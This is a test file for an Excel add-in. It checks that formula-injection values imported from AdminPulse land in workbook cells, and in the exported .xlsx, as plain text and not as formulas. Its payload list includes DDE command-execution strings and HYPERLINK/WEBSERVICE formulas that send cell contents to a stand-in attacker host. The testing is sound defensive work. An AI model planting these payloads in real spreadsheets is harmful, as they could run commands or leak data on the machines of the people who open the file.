// Formula injection: whatever text AdminPulse holds (typed by anyone with access to it, or
// imported from elsewhere), it lands in the workbook as that text, never as a formula Excel would
// run, in the simulator and in the .xlsx file. Each hostile value goes into every text field a sync
// imports: the company's name, address, legal form; a director's and a shareholder's names and
// identifiers; the auditor's IRE number; a director's role text.

import JSZip from "jszip";
import type { ExcelSimulator } from "../../simulator";
import { exportXlsx, importXlsx } from "../../simulator/xlsx";
import type { SandboxRelation } from "../../sandbox/model";
import { ACME, AUDITOR, HOLDCO, PERSON_A, PERSON_B, fixtureSeed } from "../support/fixture-seed";
import { type Running, startSandbox } from "../support/sandbox";
import { syncBench } from "../sync/support";

/** Excel's limit on a cell's text. */
const CELL_LIMIT = 32_767;

const HOSTILE: [string, string][] = [
  ["DDE through cmd", "=cmd|' /C calc'!A0"],
  ["HYPERLINK to elsewhere", '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'],
  ["plus formula", "+1+1"],
  ["minus formula", "-1+1"],
  ["at-sign function", "@SUM(1+1)*cmd|' /C calc'!A0"],
  ["tab-prefixed", "\t=1+1"],
  ["carriage-return-prefixed", "\r=1+1"],
  ["line-feed inside", "Dupont SRL\n=1+1"],
  ["full-width equals", "＝1+1"],
  ["full-width plus and minus", "＋1－1"],
  ["leading space", " =1+1"],
  ["DDE function", '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")'],
  ["plus DDE", "+cmd|' /C notepad'!A0"],
  ["minus DDE", "-2+3+cmd|' /C calc'!A0"],
  ["WEBSERVICE", '=WEBSERVICE("http://evil.example/"&A1)'],
  ["array formula", "{=1+1}"],
  ["hex number", "0x1F"],
  ["leading zeros", "00123"],
  ["number with exponent", "1e3"],
  ["percentage", "50%"],
  ["ISO date", "2024-12-31"],
  ["boolean", "TRUE"],
  ["text prefix", "'=1+1"],
  ["error value", "#REF!"],
  ["semicolon then formula", ";=1+1"],
  ["an equals sign alone", "="],
  ["right-to-left override", "\u202E=1+1"],
  ["near Excel's limit", `=${"A".repeat(CELL_LIMIT - 100)}`],
  ["over Excel's limit", `=HYPERLINK("x")${"B".repeat(CELL_LIMIT + 500)}`],
];

let running: Running;
beforeAll(async () => {
  running = await startSandbox({ seed: fixtureSeed() });
});
afterAll(() => running.sandbox.close());
beforeEach(() => running.sandbox.reset());

/** The value in every text field of ACME and of the relations its links point to. */
function plant(value: string): void {
  running.sandbox.editRelation(ACME.id, (r) => {
    r.name = value;
    r.legalForm = value;
    r.address = { street: value, number: value, box: value, postalCode: value, city: value, country: "BE" };
    for (const link of r.tos) {
      if (link.linkType === 4) link.function = value;
      if (link.linkType === 7) link.ireNumber = value;
    }
  });
  const person = (r: SandboxRelation) => {
    r.name = value;
    r.firstName = value;
    r.lastName = value;
    r.address = { street: value, number: value, postalCode: value, city: value, country: "BE" };
  };
  running.sandbox.editRelation(PERSON_A, person);
  running.sandbox.editRelation(PERSON_B, (r) => {
    person(r);
    r.nationalNumber = value;
  });
  running.sandbox.editRelation(HOLDCO, (r) => {
    r.name = value;
    r.companyNumber = value;
    r.legalForm = value;
  });
  running.sandbox.editRelation(AUDITOR, (r) => {
    r.name = value;
  });
}

/** What the sheet is to show for an imported text: trimmed, and cut to what a cell can hold. */
function shown(value: string): string {
  const trimmed = value.trim();
  return trimmed.length <= CELL_LIMIT ? trimmed : `${trimmed.slice(0, CELL_LIMIT - 1)}…`;
}

function column(sim: ExcelSimulator, table: string, header: string): unknown[] {
  const t = sim.table(table)!;
  const i = t.headers.indexOf(header);
  if (i < 0) throw new Error(`no column ${header} in ${table}`);
  return t.rows.map((r) => r[i]);
}

/** The add-in's own formulas: PD_Checks' "Where" links to the cell a finding is about. */
const OWN_LINK = /^=HYPERLINK\("#'(?:[^']|'')*'!\$?[A-Z]{1,3}\$?\d+","(?:[^"]|"")*"\)$/;

/** Every cell of the workbook that holds a formula the add-in did not make itself, as "sheet!A1: formula". */
function formulaCells(sim: ExcelSimulator): string[] {
  return sim.snapshot().sheets.flatMap((sheet) =>
    Object.entries(sheet.cells)
      .filter(([, cell]) => typeof cell.f === "string" && !OWN_LINK.test(cell.f))
      .map(([address, cell]) => `${sheet.name}!${address}: ${String(cell.f).slice(0, 60)}`),
  );
}

describe("hostile text from AdminPulse lands as text", () => {
  test.each(HOSTILE)("%s", async (_name, value) => {
    plant(value);
    const bench = syncBench(running, "en");
    const summary = await bench.sync({ enterpriseNumber: ACME.number });
    const { sim } = bench;
    const expected = shown(value);

    // No cell anywhere holds a formula: every imported text was written as text.
    expect(formulaCells(sim)).toEqual([]);
    // And each field holds exactly the text (trimmed, as the import trims every field).
    const identification = new Map(sim.table("PD_Identification")!.rows.map((r) => [r[0], r[2]]));
    for (const key of ["CompanyName", "Street", "Number", "Box", "PostalCode", "City"]) expect([key, identification.get(key)]).toEqual([key, expected]);
    expect(identification.get("LegalForm")).toEqual(expect.any(String));
    expect(column(sim, "PD_Directors", "Name")).toContain(expected);
    expect(column(sim, "PD_Directors", "Permanent representative")).toContain(expected);
    expect(column(sim, "PD_Shareholders", "Name")).toContain(expected);
    expect(column(sim, "PD_Auditors", "Name")).toEqual([expected]);
    expect(column(sim, "PD_Auditors", "IRE number")).toEqual([expected]);
    expect(column(sim, "PD_Relations", "Name")).toContain(expected);
    // The text cells are text-formatted, so that Excel keeps them literal when someone edits them too.
    const c2 = sim.cell(sim.table("PD_Identification")!.sheet, "C2");
    expect(c2).toMatchObject({ value: expected, formula: null, numberFormat: "@" });
    for (const cell of sim.snapshot().sheets.flatMap((s) => Object.values(s.cells))) {
      if (typeof cell.v === "string") expect(cell.v.length).toBeLessThanOrEqual(CELL_LIMIT);
    }
    expect(summary.companyName).toBe(value.trim());

    // A second sync reads them back as the same text: nothing to change, nothing reported as edited.
    const again = await bench.sync();
    expect(again).toMatchObject({ added: 0, updated: 0, removed: 0, conflicts: [] });
    expect(formulaCells(sim)).toEqual([]);
  });
});

describe("the exported .xlsx", () => {
  test("holds the hostile values as text, and no formula anywhere", async () => {
    // Several values at once, one per field, so that one file carries them all.
    const values = HOSTILE.map(([, v]) => v).filter((v) => v.length < 1000);
    running.sandbox.editRelation(ACME.id, (r) => {
      [r.name, r.legalForm] = [values[0]!, values[1]!];
      r.address = { street: values[2], number: values[3], box: values[4], postalCode: values[5], city: values[6], country: "BE" };
    });
    const people = [PERSON_A, PERSON_B, HOLDCO, AUDITOR];
    people.forEach((id, i) =>
      running.sandbox.editRelation(id, (r) => {
        r.name = values[7 + i]!;
      }),
    );
    const bench = syncBench(running, "fr");
    await bench.sync({ enterpriseNumber: ACME.number });
    const bytes = await exportXlsx(bench.sim);

    const zip = await JSZip.loadAsync(bytes);
    const parts = Object.keys(zip.files).filter((name) => /^xl\/worksheets\/.*\.xml$/.test(name));
    expect(parts.length).toBeGreaterThanOrEqual(2);
    for (const part of parts) {
      const xml = await zip.file(part)!.async("string");
      // Formulas in the file: only the checks' links to their cells.
      const formulas = [...xml.matchAll(/<f(?:\s[^>]*)?>([^<]*)<\/f>/g)].map((m) =>
        m[1]!
          .replace(/&quot;/g, '"')
          .replace(/&amp;/g, "&")
          .replace(/&apos;/g, "'"),
      );
      expect([part, formulas.filter((f) => !OWN_LINK.test(`=${f}`))]).toEqual([part, []]);
      for (const v of values) expect(formulas.some((f) => f.includes(v.trim()))).toBe(false);
    }

    const state = await importXlsx(bytes);
    const { createExcelSimulator } = await import("../../simulator");
    const reopened = createExcelSimulator({ state });
    expect(formulaCells(reopened)).toEqual([]);
    const all = reopened.snapshot().sheets.flatMap((s) => Object.values(s.cells).map((c) => c.v));
    for (const v of values.slice(0, 11)) expect(all).toContain(v.trim());
  });
});
